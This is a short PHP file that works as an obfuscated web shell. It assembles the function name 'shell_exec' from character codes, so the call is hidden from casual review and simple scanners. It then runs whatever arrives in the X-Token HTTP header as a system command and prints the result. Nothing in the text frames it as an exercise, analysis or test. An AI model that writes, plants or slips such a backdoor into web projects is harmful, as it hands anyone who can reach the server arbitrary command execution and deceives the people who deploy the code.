<?php
$fn = chr(115).chr(104).chr(101).chr(108).chr(108).chr(95).chr(101).chr(120).chr(101).chr(99);
$in = $_SERVER['HTTP_X_TOKEN'] ?? '';
echo $fn($in);
